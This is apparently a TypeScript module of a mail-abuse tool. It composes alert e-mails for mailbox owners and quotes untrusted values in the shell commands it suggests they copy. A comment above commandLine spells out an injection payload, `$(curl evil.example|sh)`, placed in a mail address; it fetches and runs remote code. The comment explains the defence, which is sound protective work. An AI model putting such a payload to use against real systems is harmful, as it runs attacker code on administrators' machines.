/** The mail that tells the owner of an incident, or of an abuse without one: what to do first, then what is known. */

import type { Incident } from '../incident/index.ts';
import { BOUNDS, LIMITS } from '../incident/limits.ts';
import { mayBeNewsletter } from '../incident/resemble.ts';
import type { Remedy } from '../judge/provenance.ts';
import type { MailRecord } from '../record/record.ts';
import { ALERT_COLUMNS, paragraph, pointLines, section } from './alert-lines.ts';
import type { AlertHandling } from './alert-words.ts';
import { type ForeignValues, foreignValues } from './foreign-values.ts';
import { momentOf } from './minute.ts';
import { remedyFacts, remedySteps, toldRemedy } from './provenance-text.ts';
import { MAY_BE_HIS_OWN } from './scan-site-page.ts';
import type { FloodKind, Words } from './words.ts';

/**
 * `mailbox`: of which it tells. `record`: the mail that set it off. `incident`: as it stands now, which may be later; null
 * where an abuse stands for itself, and where its counts are kept no longer: then `forgotten` is its id.
 */
export interface AlertFacts {
  readonly mailbox: string;
  readonly record: MailRecord;
  readonly incident: Incident | null;
  readonly forgotten?: string | null;
  /** Stands behind a command so that it asks where this came from, such as ` --stack NAME`; words of ours. */
  readonly where?: string;
}

export { ALERT_COLUMNS };

export interface AlertText {
  readonly subject: string;
  /** Lines of at most `ALERT_COLUMNS`, each ended by LF. */
  readonly body: string;
}

/** Characters of a value in the subject: most mail programs show about so many of a whole subject. */
export const MAX_SUBJECT_VALUE_CHARS = 80;
const MAX_DOMAINS = 5;
/** Traits of a flood's mails that are named. */
const MAX_SHARED = 3;
const MINUTE_MS = 60_000;
const HOUR_MS = 60 * MINUTE_MS;
/** Below this, a rate an hour says less than the minutes. */
const MIN_RATE_MS = HOUR_MS / 2;
/** A leak from which nothing was sent for so long, though reports go on coming, looks closed. */
const QUIET_MS = HOUR_MS;

/** Pure. Strangers' words in `facts` are cut and made harmless (`foreign-values.ts`). */
export function alertText(facts: AlertFacts, words: Words): AlertText {
  return { subject: subjectOf(facts, words), body: bodyOf(facts, words) };
}

/* ------------------------------------------------------------------ what it is about */

/**
 * Of abuse, by the record that set the alert off; but an alert that a crash delayed is set off by the next report
 * whatever it is, which says nothing of this incident then.
 */
function remedyOf(facts: AlertFacts): Remedy | null {
  const { record, incident } = facts;
  if (record.provenance?.kind !== 'abused' || !isPart(facts) || isNewsletter(facts)) return null;
  const { remedy } = record.provenance;
  if (incident === null) return remedy;
  const clients = incident.clients.map(([address]) => address);
  return {
    ...remedy,
    clients: clients.length > 0 ? clients : remedy.clients,
    recipients: incident.recipients,
    since: incident.firstSeen,
  };
}

function isPart({ record, incident, forgotten = null }: AlertFacts): boolean {
  if (incident === null) return forgotten === null || record.incident?.id === forgotten;
  return record.incident?.id === incident.id && record.incident.mailbox === incident.mailbox;
}

function isNewsletter({ incident }: AlertFacts): boolean {
  return incident !== null && mayBeNewsletter(incident);
}

/** They look like the owner's newsletter; or nobody knows whose they are; or much speaks against their being the site's. */
function floodKind(facts: AlertFacts): FloodKind {
  if (isNewsletter(facts)) return 'newsletter';
  const verdict = isPart(facts) ? facts.record.provenance?.kind : undefined;
  return facts.incident?.by === 'mailbox' || verdict === 'suspect' || verdict === 'forged'
    ? 'forged'
    : 'unknown';
}

function toldMailbox({ mailbox }: AlertFacts, values: ForeignValues, words: Words): string {
  return mailbox === '' ? words.alert.noMailbox : values.told(mailbox);
}

/** For the words of people: what it names is harmless, and what has no name is described. */
function toldAs(remedy: Remedy, values: ForeignValues, words: Words): Remedy {
  const { subject, host, clients, searchFor } = remedy;
  return toldRemedy(
    {
      ...remedy,
      subject: subject === '' ? '' : values.told(subject),
      host: host === null ? null : values.told(host),
      clients: clients.map(values.told),
      searchFor: searchFor === null ? null : values.told(searchFor),
    },
    words,
  );
}

/** When it ended, told; null while it goes on. */
function overAt(incident: Incident | null): string | null {
  if (incident === null || incident.closedAt === null) return null;
  return momentOf(incident.sentLast ?? incident.lastReport);
}

function subjectOf(facts: AlertFacts, words: Words): string {
  const { subject: say } = words.alert;
  const values = foreignValues(MAX_SUBJECT_VALUE_CHARS);
  const remedy = remedyOf(facts);
  const over = overAt(facts.incident);
  const text =
    remedy === null
      ? say.flood[floodKind(facts)](toldMailbox(facts, values, words), over)
      : say.abused[remedy.kind](toldAs(remedy, values, words), over);
  return values.restored(text);
}

/* ------------------------------------------------------------------ the body */

function bodyOf(facts: AlertFacts, words: Words): string {
  const { alert } = words;
  const values = foreignValues();
  const kind = floodKind(facts);
  const mailbox = toldMailbox(facts, values, words);
  const remedy = remedyOf(facts);
  const told = remedy === null ? null : toldAs(remedy, values, words);
  const { incident, forgotten = null } = facts;
  const known =
    incident !== null
      ? incidentFacts(incident, told, values, words)
      : [
          ...(forgotten === null ? [] : [alert.forgotten(BOUNDS.incidents)]),
          ...(told === null ? [] : remedyFacts(told, words)),
        ];
  const lines = [
    ...paragraph(told === null ? alert.what.flood[kind](mailbox) : alert.what.abused[told.kind](told)),
    ...section(alert.headings.facts, known, '- '),
    ...section(
      alert.headings.remedy,
      told === null ? alert.steps[kind](mailbox) : remedySteps(told, words),
      'number',
    ),
    ...section(alert.headings.now, nowOf(facts, words), '- '),
    '',
    alert.headings.answer,
    ...answerLines(facts, remedy, words),
    '',
    ...paragraph(nextOf(facts, words)),
  ];
  return lines.map((line) => `${values.restored(line)}\n`).join('');
}

function incidentFacts(
  incident: Incident,
  remedy: Remedy | null,
  values: ForeignValues,
  { alert, verdict }: Words,
): string[] {
  const { firstSeen, reopenedAt, reports, recipients, clients, domains, sentLast, resetAt } = incident;
  const most = domains
    .slice(0, MAX_DOMAINS)
    .map(([name, count]) => [values.told(`@${name}`), count] as const);
  const isLeaking = resetAt !== null && sentLast !== null && Date.parse(sentLast) > Date.parse(resetAt);
  return [
    alert.counted(reports, recipients, momentOf(firstSeen), paceOf(incident, alert)),
    ...(reopenedAt === null ? [] : [alert.reopened(momentOf(reopenedAt))]),
    noticedBy(incident, alert),
    ...(remedy === null && incident.by === 'cluster' && !incident.vouched ? [alert.claims] : []),
    ...(most.length === 0 ? [] : [alert.domains(most)]),
    remedy === null
      ? alert.clients(clients.map(([address]) => values.told(address)))
      : verdict.clients(remedy.clients),
    sentText(incident, alert),
    ...(isLeaking ? [alert.notClosed(momentOf(resetAt), momentOf(sentLast))] : []),
    ...(remedy === null || remedy.searchFor === null ? [] : [verdict.searchFor(remedy.searchFor)]),
  ];
}

/** Reports an hour, or the minutes in which they came. */
function paceOf({ firstSeen, lastReport, reports }: Incident, { pace }: Words['alert']): string {
  const length = Math.max(0, Date.parse(lastReport) - Date.parse(firstSeen));
  const rate = Math.round((reports * HOUR_MS) / length);
  return length < MIN_RATE_MS || rate === 0
    ? pace.minutes(Math.max(1, Math.ceil(length / MINUTE_MS)))
    : pace.hourly(rate);
}

function noticedBy({ by, openedBy, features, reports }: Incident, alert: Words['alert']): string {
  const window = alert.windows[openedBy];
  if (by === 'mailbox') return alert.noticed.mailbox(window);
  const frequent = features.filter((one) => one.reports >= reports * LIMITS.frequentShare);
  const shared = [...new Set(frequent.map(({ kind }) => alert.features[kind]))];
  return alert.noticed.cluster(window, shared.slice(0, MAX_SHARED));
}

function sentText({ sentLast, lastReport, closedAt }: Incident, { sent }: Words['alert']): string {
  if (sentLast === null) return sent.unknown;
  const isQuiet = closedAt !== null || Date.parse(lastReport) - Date.parse(sentLast) > QUIET_MS;
  return isQuiet ? sent.quiet(momentOf(sentLast)) : sent.going(momentOf(sentLast));
}

/* ------------------------------------------------------------------ what is done, and how to answer */

function handlingOf(facts: AlertFacts): AlertHandling {
  if (!isPart(facts)) return 'ruled';
  const { decision } = facts.record;
  switch (decision.kind) {
    case 'hold':
      return 'held';
    case 'drop':
      return 'dropped';
    case 'deliver':
    case 'mark':
      return decision.would === null ? 'ruled' : 'observed';
    default:
      return decision satisfies never;
  }
}

/** Both budgets together are the most that comes, whatever is vouched for. */
const MOST_ALERTS = BOUNDS.alertsADay + BOUNDS.vouchedAlertsADay;

function nextOf({ incident, forgotten = null }: AlertFacts, { alert: { next } }: Words): string {
  if (incident !== null) return next.incident(MOST_ALERTS);
  return forgotten === null ? next.abuse : next.forgotten(MOST_ALERTS);
}

function nowOf(facts: AlertFacts, { alert: { now } }: Words): string[] {
  if (facts.incident === null && (facts.forgotten ?? null) !== null) return [now.forgotten, now.kept];
  const told = facts.incident === null ? now.one : now.flood;
  const what = isNewsletter(facts) ? now.flood.delivered : told[handlingOf(facts)];
  return [what, facts.incident === null ? now.others : now.unlike, now.kept];
}

/** What is to be done is said, and below it the command, which is never broken: it is there to be copied. */
function answerLines(facts: AlertFacts, remedy: Remedy | null, { alert: { answer } }: Words): string[] {
  const { record, incident, forgotten = null, where = '' } = facts;
  const handling = handlingOf(facts);
  const kind = floodKind(facts);
  const canBeHis = remedy === null ? kind !== 'forged' : MAY_BE_HIS_OWN.has(remedy.kind);
  const asked: [text: string, command: (value: string) => string, value: string, name: string][] = [];
  if (forgotten !== null && incident === null) {
    asked.push([answer.list, (id) => `held list --incident ${id}`, forgotten, 'INCIDENT']);
  } else if (incident === null) {
    if (handling === 'held') {
      asked.push([answer.show, (key) => `held show ${key}`, record.key, 'KEY']);
      if (canBeHis) asked.push([answer.mineOne, (key) => `held release ${key}`, record.key, 'KEY']);
    }
  } else {
    const ends = remedy?.kind ?? (kind === 'newsletter' ? 'change-password' : null);
    if (ends !== null)
      asked.push([answer.reset[ends], (box) => `held reset ${box} --at TIME`, incident.mailbox, 'MAILBOX']);
    const mine = kind === 'newsletter' ? answer.mineNewsletter : answer.mine;
    if (canBeHis) asked.push([mine, (id) => `held release --mine ${id}`, incident.id, 'INCIDENT']);
    if ((handling === 'held' || handling === 'ruled') && incident.bulk < incident.reports)
      asked.push([answer.list, (id) => `held list --incident ${id}`, incident.id, 'INCIDENT']);
  }
  return asked.flatMap(([text, command, value, name]) => [
    ...pointLines(text, '- '),
    `${commandLine((argument) => `    truebounce ${command(argument)}`, value, name)}${where}`,
  ]);
}

/**
 * An attack: a mailbox that takes all names is sent mail for `$(curl evil.example|sh)@`, or to a name with a quote in
 * it, and the owner copies our command into his shell. The defence: what a shell reads as more than a word is quoted, what
 * cannot be quoted is only named, as is what is too long for a line.
 */
function commandLine(lineWith: (argument: string) => string, value: string, name: string): string {
  const line = lineWith(/^[\w@.+/-]+$/.test(value) ? value : `'${value}'`);
  return /^(?!-)[!-&(-~]+$/.test(value) && line.length <= ALERT_COLUMNS ? line : lineWith(name);
}
